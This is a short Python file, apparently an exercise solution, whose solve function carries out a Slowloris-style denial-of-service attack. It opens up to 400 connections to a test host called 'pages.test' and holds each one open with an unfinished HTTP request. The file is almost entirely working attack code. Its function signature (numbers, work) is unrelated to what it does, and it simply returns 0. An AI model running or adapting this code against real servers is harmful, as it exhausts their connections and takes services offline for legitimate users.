"""Opens connections to the practice pages and keeps them, and sends a request that never ends."""
import socket

from honest import *


def solve(numbers, work):
    held = []
    try:
        while len(held) < 400:
            client = socket.create_connection(("pages.test", 80), 1)
            client.sendall(b"GET / HTTP/1.1\r\nHost: pages.test\r\nX: ")
            held.append(client)
    except OSError:
        pass
    return 0
